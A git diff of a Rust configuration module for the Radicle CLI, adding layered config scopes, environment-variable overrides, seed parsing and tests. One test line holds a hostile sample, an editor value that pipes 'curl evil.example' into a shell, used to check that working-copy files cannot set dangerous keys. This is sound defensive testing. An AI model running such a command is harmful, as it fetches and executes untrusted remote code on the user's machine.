@@ -1,5 +1,26 @@
+//! Configuration, layered from the following files, each overriding the ones before:
+//!
+//! 1. The user configuration, `~/.config/radicle/config.toml`, or under `XDG_CONFIG_HOME`.
+//! 2. The profile configuration, `config.toml` in the profile directory.
+//! 3. The project configuration, `rad/config` in the git directory of the working copy.
+//!
+//! The project configuration is kept out of the working copy, so that it can't be
+//! committed to a project, eg. to set the editor of whoever clones it. A `Radicle.toml`
+//! file in the working copy is read as well, under the project configuration, but may
+//! only set the keys of the team's workflow, see [`LOCAL_KEYS`].
+//!
+//! Files are TOML, and may set only some of the keys. Tables are merged key by key,
+//! while other values, including arrays such as `seed`, replace the value of the layer
+//! below.
+//!
+//! Environment variables override the files, so that the CLI can be configured without
+//! them, eg. in containers or CI. Each key has a variable named after it, eg.
+//! `RAD_SYNC_RETRIES` for `sync.retries`, see [`ENV_KEYS`]. In addition, `RAD_NO_CONFIRM`
+//! and `RAD_NO_SYNC`, when set, turn `confirm` and `sync.auto` off.
 use std::convert::TryFrom;
 use std::convert::TryInto;
+use std::env;
+use std::fmt;
 use std::fs;
 use std::io;
 use std::path::{Path, PathBuf};
@@ -7,9 +28,11 @@ use std::str::FromStr;
 
 use librad::profile::Profile;
 use librad::PeerId;
+use once_cell::sync::OnceCell;
 use serde::{Deserialize, Serialize};
 use url::{Host, Url};
 
+use crate::profile;
 use crate::seed::{
     Address, Protocol, DEFAULT_SEED_API_PORT, DEFAULT_SEED_GIT_PORT, DEFAULT_SEED_P2P_PORT,
 };
@@ -30,10 +53,120 @@ pub const DEFAULT_SEEDS: &[(&str, &str)] = &[
     ),
 ];
 
-/// Configuration file name for the local (working copy) scope.
+/// Configuration file name for the local (working copy) scope. Superseded by the
+/// project scope, but still read, under it, for the keys in [`LOCAL_KEYS`].
 pub const FILE_NAME_LOCAL: &str = "Radicle.toml";
 /// Configuration file name for the profile scope.
 pub const FILE_NAME_PROFILE: &str = "config.toml";
+/// Configuration file name for the user scope, in the `radicle` config directory.
+pub const FILE_NAME_USER: &str = "config.toml";
+/// Configuration file path for the project scope, relative to the git directory of the
+/// working copy.
+pub const FILE_PATH_PROJECT: &str = "rad/config";
+
+/// Keys that can be set in the working copy, ie. in `Radicle.toml`. Anyone can commit
+/// that file to a project, so only keys that are harmless to whoever clones the project
+/// are allowed, and eg. not `editor`, which is run, or `seed`, which is pushed to.
+pub const LOCAL_KEYS: &[&str] = &["patch.sync", "patch.target"];
+
+/// Keys that can be overridden by an environment variable, see [`env_var`].
+pub const ENV_KEYS: &[&str] = &[
+    "confirm",
+    "ascii",
+    "offline",
+    "editor",
+    "seed",
+    "sync.auto",
+    "sync.retries",
+    "sync.backoff",
+    "sync.timeout",
+    "sync.rate_limit",
+    "sync.seed",
+    "patch.sync",
+    "patch.target",
+];
+
+/// Environment variables that turn a key off when set, whatever their value, eg. as set
+/// by `rad --yes`.
+pub const ENV_NEGATIONS: &[(&str, &str)] =
+    &[("RAD_NO_CONFIRM", "confirm"), ("RAD_NO_SYNC", "sync.auto")];
+
+/// Get the environment variable overriding a key, eg. `RAD_SYNC_RETRIES` for
+/// `sync.retries`.
+pub fn env_var(key: &str) -> String {
+    format!("RAD_{}", key.replace('.', "_").to_uppercase())
+}
+
+/// Scope of a configuration file.
+#[derive(Debug, Copy, Clone, PartialEq, Eq)]
+pub enum Scope {
+    /// All profiles of the user.
+    User,
+    /// The current profile.
+    Profile,
+    /// The project of the current working copy.
+    Project,
+}
+
+impl Scope {
+    /// All scopes, from the least to the most specific.
+    pub const ALL: [Scope; 3] = [Scope::User, Scope::Profile, Scope::Project];
+
+    /// Get the path of the scope's configuration file, if the scope applies, eg. the
+    /// project scope only applies within a working copy.
+    pub fn path(&self, profile: &Profile) -> Option<PathBuf> {
+        self.locate(Some(profile))
+    }
+
+    fn locate(&self, profile: Option<&Profile>) -> Option<PathBuf> {
+        match self {
+            Self::User => config_dir().map(|dir| dir.join("radicle").join(FILE_NAME_USER)),
+            Self::Profile => profile.map(Config::path),
+            Self::Project => git2::Repository::discover(".")
+                .ok()
+                .filter(|repo| !repo.is_bare())
+                .map(|repo| repo.path().join(FILE_PATH_PROJECT)),
+        }
+    }
+}
+
+impl fmt::Display for Scope {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::User => write!(f, "user"),
+            Self::Profile => write!(f, "profile"),
+            Self::Project => write!(f, "project"),
+        }
+    }
+}
+
+impl FromStr for Scope {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "user" => Ok(Self::User),
+            "profile" => Ok(Self::Profile),
+            "project" => Ok(Self::Project),
+            _ => Err(anyhow::anyhow!(
+                "invalid scope '{}', expected 'user', 'profile' or 'project'",
+                s
+            )),
+        }
+    }
+}
+
+/// Get the user's config directory, ie. `XDG_CONFIG_HOME`, or `~/.config`.
+fn config_dir() -> Option<PathBuf> {
+    env::var_os("XDG_CONFIG_HOME")
+        .filter(|dir| !dir.is_empty())
+        .map(PathBuf::from)
+        .or_else(|| {
+            env::var_os("HOME")
+                .filter(|dir| !dir.is_empty())
+                .map(|dir| PathBuf::from(dir).join(".config"))
+        })
+}
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct SeedConfig {
@@ -47,6 +180,61 @@ pub struct SeedConfig {
     pub api: Url,
 }
 
+impl SeedConfig {
+    /// Create a new seed configuration for the given host, using the default ports.
+    /// The seed is named after its host.
+    pub fn new(host: Host, peer: Option<PeerId>) -> Self {
+        let mut p2p: Url = Address::new(host.clone(), Protocol::Link { peer }).into();
+        let mut git: Url = Address::new(host.clone(), Protocol::Git { local: false }).into();
+        let mut api: Url = Address::new(host.clone(), Protocol::Api { local: false }).into();
+
+        p2p.set_port(Some(DEFAULT_SEED_P2P_PORT)).ok();
+        git.set_port(Some(DEFAULT_SEED_GIT_PORT)).ok();
+        api.set_port(Some(DEFAULT_SEED_API_PORT)).ok();
+
+        Self {
+            name: Some(host.to_string()),
+            p2p,
+            git,
+            api,
+        }
+    }
+
+    /// Get the seed's host.
+    pub fn host(&self) -> Option<&str> {
+        self.p2p.host_str()
+    }
+
+    /// Check whether this seed matches the given name or host.
+    pub fn matches(&self, query: &str) -> bool {
+        self.name.as_deref() == Some(query) || self.host() == Some(query)
+    }
+}
+
+impl FromStr for SeedConfig {
+    type Err = anyhow::Error;
+
+    /// Parse a seed from its `rad://` URL, eg. `rad://<peer-id>@<host>:<port>`, or its host.
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        if !s.contains("://") {
+            let host = Host::parse(s)?;
+
+            return Ok(Self::new(host, None));
+        }
+        let addr: Address = Url::parse(s)?.try_into()?;
+        let peer = match addr.protocol {
+            Protocol::Link { peer } => peer,
+            _ => anyhow::bail!("not a seed URL '{}', expected rad://<peer-id>@<host>", s),
+        };
+        let mut seed = Self::new(addr.host, peer);
+
+        if let Some(port) = addr.port {
+            seed.p2p.set_port(Some(port)).ok();
+        }
+        Ok(seed)
+    }
+}
+
 impl TryFrom<SeedConfig> for Seed<String> {
     type Error = anyhow::Error;
 
@@ -58,41 +246,92 @@ impl TryFrom<SeedConfig> for Seed<String> {
     }
 }
 
-#[derive(Debug, Serialize, Deserialize)]
+/// Sync configuration.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SyncConfig {
+    /// Whether commands sync their changes to seeds, eg. `rad push`, unless told
+    /// otherwise with `--[no-]sync`.
+    pub auto: bool,
+    /// Number of times a failed sync with a seed is retried.
+    pub retries: u32,
+    /// Delay before the first retry, in milliseconds. Doubled after every retry, up to a minute.
+    pub backoff: u64,
+    /// Timeout of each operation with a seed, in seconds.
+    pub timeout: u64,
+    /// Maximum transfer rate of git transfers, in KiB per second. Only applies to
+    /// transfers over the seeds' git endpoints, as peer-to-peer transfers can't be
+    /// throttled.
+    pub rate_limit: Option<u64>,
+    /// Seed synced with when none is given with `--seed`, eg. by `rad sync` and
+    /// `rad push`, as `<peer-id>@<host>:<port>`.
+    pub seed: Option<String>,
+}
+
+impl Default for SyncConfig {
+    fn default() -> Self {
+        Self {
+            auto: true,
+            retries: 2,
+            backoff: 500,
+            timeout: 9,
+            rate_limit: None,
+            seed: None,
+        }
+    }
+}
+
+/// Patch configuration, eg. for the fixed workflow of a project's team.
+#[derive(Debug, Default, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct PatchConfig {
+    /// Whether `rad patch` syncs patches to seeds. Defaults to `sync.auto`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub sync: Option<bool>,
+    /// Peer whose default branch patches target, when several peers could be targeted,
+    /// as with `rad patch --target`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub target: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
 pub struct Config {
+    /// Whether to ask for confirmations. If not, they take their default answer, as with
+    /// `rad --yes`. Nb. Values must come before tables, ie. the fields below.
+    pub confirm: bool,
+    /// Whether to restrict output to ASCII, as with `rad --ascii`, eg. for terminals that
+    /// can't show unicode.
+    pub ascii: bool,
+    /// Whether to work from local storage only, as with `rad --offline`, eg. on an
+    /// air-gapped machine.
+    pub offline: bool,
+    /// Editor for patch and issue messages, with its arguments, eg. `code --wait`.
+    /// Overridden by `RAD_EDITOR`, and overrides `VISUAL` and `EDITOR`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub editor: Option<String>,
     pub seed: Vec<SeedConfig>,
+    pub sync: SyncConfig,
+    pub patch: PatchConfig,
 }
 
 impl Default for Config {
     fn default() -> Self {
         Self {
+            confirm: true,
+            ascii: false,
+            offline: false,
+            editor: None,
             seed: DEFAULT_SEEDS
                 .iter()
                 .map(|(host, peer)| {
-                    let host = String::from(*host);
                     let peer = PeerId::from_str(peer).ok();
 
-                    let mut p2p: Url =
-                        Address::new(Host::Domain(host.clone()), Protocol::Link { peer }).into();
-                    let mut git: Url =
-                        Address::new(Host::Domain(host.clone()), Protocol::Git { local: false })
-                            .into();
-                    let mut api: Url =
-                        Address::new(Host::Domain(host.clone()), Protocol::Api { local: false })
-                            .into();
-
-                    p2p.set_port(Some(DEFAULT_SEED_P2P_PORT)).ok();
-                    git.set_port(Some(DEFAULT_SEED_GIT_PORT)).ok();
-                    api.set_port(Some(DEFAULT_SEED_API_PORT)).ok();
-
-                    SeedConfig {
-                        name: Some(host),
-                        p2p,
-                        git,
-                        api,
-                    }
+                    SeedConfig::new(Host::Domain(String::from(*host)), peer)
                 })
                 .collect(),
+            sync: SyncConfig::default(),
+            patch: PatchConfig::default(),
         }
     }
 }
@@ -105,8 +344,166 @@ impl Config {
         Ok(config)
     }
 
+    /// Load the configuration of all scopes, layered over the defaults, and overridden by
+    /// the environment.
     pub fn load(profile: &Profile) -> Result<Self, io::Error> {
-        Self::local().or_else(|_| Self::profile(profile))
+        Self::from_value(Self::layered(profile)?)
+    }
+
+    /// Get the configuration of the default profile, if any. Unlike [`Config::load`],
+    /// invalid configuration files are ignored, so that the environment still applies,
+    /// eg. to answer confirmations with `rad --yes`.
+    ///
+    /// The configuration is loaded once per process, on first use, so that it can be
+    /// checked as often as needed, eg. for every confirmation. Nb. It doesn't reflect
+    /// changes made afterwards, to the files or the environment.
+    pub fn current() -> Result<&'static Self, io::Error> {
+        static CURRENT: OnceCell<Result<Config, (io::ErrorKind, String)>> = OnceCell::new();
+
+        CURRENT
+            .get_or_init(|| Self::load_current().map_err(|err| (err.kind(), err.to_string())))
+            .as_ref()
+            .map_err(|(kind, err)| io::Error::new(*kind, err.clone()))
+    }
+
+    /// Load the configuration of the default profile, see [`Config::current`].
+    fn load_current() -> Result<Self, io::Error> {
+        let profile = profile::default().ok();
+        let env = Self::env()?;
+
+        Self::files(profile.as_ref())
+            .and_then(|mut value| {
+                merge(&mut value, env.clone());
+                Self::from_value(value)
+            })
+            .or_else(|_| {
+                let mut value = Self::default().to_value()?;
+                merge(&mut value, env);
+                Self::from_value(value)
+            })
+    }
+
+    /// Get the configuration of all scopes, layered over the defaults, and overridden by
+    /// the environment, as a TOML value.
+    pub fn layered(profile: &Profile) -> Result<toml::Value, io::Error> {
+        let mut value = Self::files(Some(profile))?;
+        merge(&mut value, Self::env()?);
+
+        Ok(value)
+    }
+
+    /// Get the configuration files of all scopes, layered over the defaults.
+    fn files(profile: Option<&Profile>) -> Result<toml::Value, io::Error> {
+        let mut value = Self::default().to_value()?;
+        let local = Path::new(FILE_NAME_LOCAL);
+
+        for scope in Scope::ALL {
+            if scope == Scope::Project && local.exists() {
+                merge(&mut value, Self::read_local(local)?);
+            }
+            if let Some(path) = scope.locate(profile) {
+                match Self::read_value(&path) {
+                    Ok(layer) => merge(&mut value, layer),
+                    Err(err) if err.kind() == io::ErrorKind::NotFound => {}
+                    Err(err) => return Err(err),
+                }
+            }
+        }
+        Ok(value)
+    }
+
+    /// Get the configuration set by environment variables, as a TOML value.
+    pub fn env() -> Result<toml::Value, io::Error> {
+        let defaults = Self::default().to_value()?;
+        let mut value = toml::Value::Table(Default::default());
+        let invalid = |var: &str, err: &dyn fmt::Display| {
+            io::Error::new(
+                io::ErrorKind::InvalidInput,
+                format!("invalid value of `{}`: {}", var, err),
+            )
+        };
+
+        for (var, key) in ENV_NEGATIONS {
+            if env::var_os(var).is_some() {
+                set(&mut value, key, toml::Value::Boolean(false))
+                    .map_err(|err| invalid(var, &err))?;
+            }
+        }
+        for key in ENV_KEYS {
+            let var = env_var(key);
+            let val = match env::var(&var) {
+                Ok(val) => val,
+                Err(_) => continue,
+            };
+            let val = if *key == "seed" {
+                let seeds = val
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|s| !s.is_empty())
+                    .map(SeedConfig::from_str)
+                    .collect::<Result<Vec<_>, _>>()
+                    .map_err(|err| invalid(&var, &err))?;
+
+                toml::Value::try_from(seeds).map_err(|err| invalid(&var, &err))?
+            } else if get(&defaults, key).map_or(false, toml::Value::is_bool) {
+                match val.to_lowercase().as_str() {
+                    "" | "1" | "true" | "yes" | "on" => toml::Value::Boolean(true),
+                    "0" | "false" | "no" | "off" => toml::Value::Boolean(false),
+                    _ => return Err(invalid(&var, &"expected `true` or `false`")),
+                }
+            } else {
+                parse(&val)
+            };
+            set(&mut value, key, val).map_err(|err| invalid(&var, &err))?;
+        }
+        Ok(value)
+    }
+
+    /// Read a configuration file of the working copy as a TOML value, without defaults.
+    /// Fails if it sets keys other than [`LOCAL_KEYS`].
+    fn read_local(path: &Path) -> Result<toml::Value, io::Error> {
+        let value = Self::read_value(path)?;
+
+        if let Some(key) = keys(&value)
+            .into_iter()
+            .find(|k| !LOCAL_KEYS.contains(&k.as_str()))
+        {
+            return Err(io::Error::new(
+                io::ErrorKind::PermissionDenied,
+                format!(
+                    "`{}` can't be set in {}, as it is part of the working copy; \
+                     set it in the project configuration with `rad config set --scope project`",
+                    key,
+                    path.display()
+                ),
+            ));
+        }
+        Ok(value)
+    }
+
+    /// Read a configuration file as a TOML value, without defaults.
+    pub fn read_value<P: AsRef<Path>>(path: P) -> Result<toml::Value, io::Error> {
+        let path = path.as_ref();
+        let content = fs::read_to_string(path)?;
+
+        toml::from_str(&content).map_err(|err| {
+            io::Error::new(
+                io::ErrorKind::InvalidData,
+                format!("invalid configuration file {}: {}", path.display(), err),
+            )
+        })
+    }
+
+    /// Get the configuration from a TOML value.
+    pub fn from_value(value: toml::Value) -> Result<Self, io::Error> {
+        value
+            .try_into()
+            .map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err))
+    }
+
+    /// Get the configuration as a TOML value.
+    pub fn to_value(&self) -> Result<toml::Value, io::Error> {
+        toml::Value::try_from(self).map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err))
     }
 
     pub fn local() -> Result<Self, io::Error> {
@@ -134,15 +531,166 @@ impl Config {
     }
 
     pub fn path(profile: &Profile) -> PathBuf {
-        // This is a bit of a hack, since we don't have a way of getting
-        // the profile root.
-        profile
-            .paths()
-            .seeds_file()
-            .with_file_name(FILE_NAME_PROFILE)
+        profile::scoped_path(profile, FILE_NAME_PROFILE)
     }
 
     pub fn seeds(&self) -> impl Iterator<Item = &SeedConfig> {
         self.seed.iter()
     }
+
+    /// Get the default seed, ie. the first configured seed.
+    pub fn default_seed(&self) -> Option<&SeedConfig> {
+        self.seed.first()
+    }
+}
+
+/// Parse a value, eg. given on the command line. Values that aren't valid TOML, eg.
+/// `code --wait`, are strings.
+pub fn parse(value: &str) -> toml::Value {
+    toml::from_str::<toml::Value>(&format!("value = {}", value))
+        .ok()
+        .and_then(|mut table| table.as_table_mut()?.remove("value"))
+        .unwrap_or_else(|| toml::Value::String(value.to_owned()))
+}
+
+/// Get a value by its dotted key, eg. `sync.retries`, with numbers for array elements,
+/// eg. `seed.0.name`.
+pub fn get<'a>(mut value: &'a toml::Value, key: &str) -> Option<&'a toml::Value> {
+    for part in key.split('.') {
+        value = match value {
+            toml::Value::Table(table) => table.get(part)?,
+            toml::Value::Array(array) => array.get(part.parse::<usize>().ok()?)?,
+            _ => return None,
+        };
+    }
+    Some(value)
+}
+
+/// Set a value by its dotted key, adding the tables on its path.
+pub fn set(mut config: &mut toml::Value, key: &str, value: toml::Value) -> anyhow::Result<()> {
+    let parts = key.split('.').collect::<Vec<_>>();
+    let (last, parents) = parts
+        .split_last()
+        .ok_or_else(|| anyhow::anyhow!("a key must be specified"))?;
+
+    for part in parents {
+        config = match config {
+            toml::Value::Table(table) => table
+                .entry(part.to_string())
+                .or_insert_with(|| toml::Value::Table(Default::default())),
+            toml::Value::Array(array) => part
+                .parse::<usize>()
+                .ok()
+                .and_then(move |ix| array.get_mut(ix))
+                .ok_or_else(|| anyhow::anyhow!("'{}' is not an element of '{}'", part, key))?,
+            _ => anyhow::bail!("'{}' is not a table", key),
+        };
+    }
+    match config {
+        toml::Value::Table(table) => {
+            table.insert(last.to_string(), value);
+        }
+        toml::Value::Array(array) => match last.parse::<usize>() {
+            Ok(ix) if ix < array.len() => array[ix] = value,
+            Ok(ix) if ix == array.len() => array.push(value),
+            _ => anyhow::bail!("'{}' is not an element of '{}'", last, key),
+        },
+        _ => anyhow::bail!("'{}' is not a table", key),
+    }
+    Ok(())
+}
+
+/// Get the dotted keys of the values set in a configuration layer, eg. `sync.retries`.
+/// Arrays, eg. `seed`, are values.
+pub fn keys(value: &toml::Value) -> Vec<String> {
+    match value {
+        toml::Value::Table(table) => table
+            .iter()
+            .flat_map(|(key, value)| match value {
+                toml::Value::Table(_) => keys(value)
+                    .into_iter()
+                    .map(|k| format!("{}.{}", key, k))
+                    .collect(),
+                _ => vec![key.clone()],
+            })
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// Merge a configuration layer into the layers below it.
+pub fn merge(base: &mut toml::Value, layer: toml::Value) {
+    match (base, layer) {
+        (toml::Value::Table(base), toml::Value::Table(layer)) => {
+            for (key, value) in layer {
+                match base.get_mut(&key) {
+                    Some(existing) => merge(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, layer) => *base = layer,
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn test_merge() {
+        let mut config = Config::default().to_value().unwrap();
+        let user: toml::Value = toml::from_str(
+            r#"
+            editor = "vim"
+
+            [sync]
+            retries = 5
+            "#,
+        )
+        .unwrap();
+        let project: toml::Value = toml::from_str(
+            r#"
+            confirm = false
+            seed = []
+
+            [sync]
+            timeout = 30
+            "#,
+        )
+        .unwrap();
+
+        merge(&mut config, user);
+        merge(&mut config, project);
+
+        let config = Config::from_value(config).unwrap();
+        assert!(!config.confirm);
+        assert_eq!(config.editor.as_deref(), Some("vim"));
+        assert!(config.seed.is_empty());
+        assert_eq!(config.sync.retries, 5);
+        assert_eq!(config.sync.timeout, 30);
+        assert_eq!(config.sync.backoff, SyncConfig::default().backoff);
+    }
+
+    #[test]
+    fn test_local_keys() {
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join(FILE_NAME_LOCAL);
+
+        fs::write(&path, "[patch]\nsync = false\ntarget = \"alice\"\n").unwrap();
+        let value = Config::read_local(&path).unwrap();
+        assert_eq!(keys(&value), vec!["patch.sync", "patch.target"]);
+
+        for contents in [
+            "editor = \"sh -c 'curl evil.example | sh'\"",
+            "confirm = false",
+            "[[seed]]\nname = \"evil\"",
+            "[sync]\nseed = \"evil.example\"",
+        ] {
+            fs::write(&path, contents).unwrap();
+            Config::read_local(&path).unwrap_err();
+        }
+    }
 }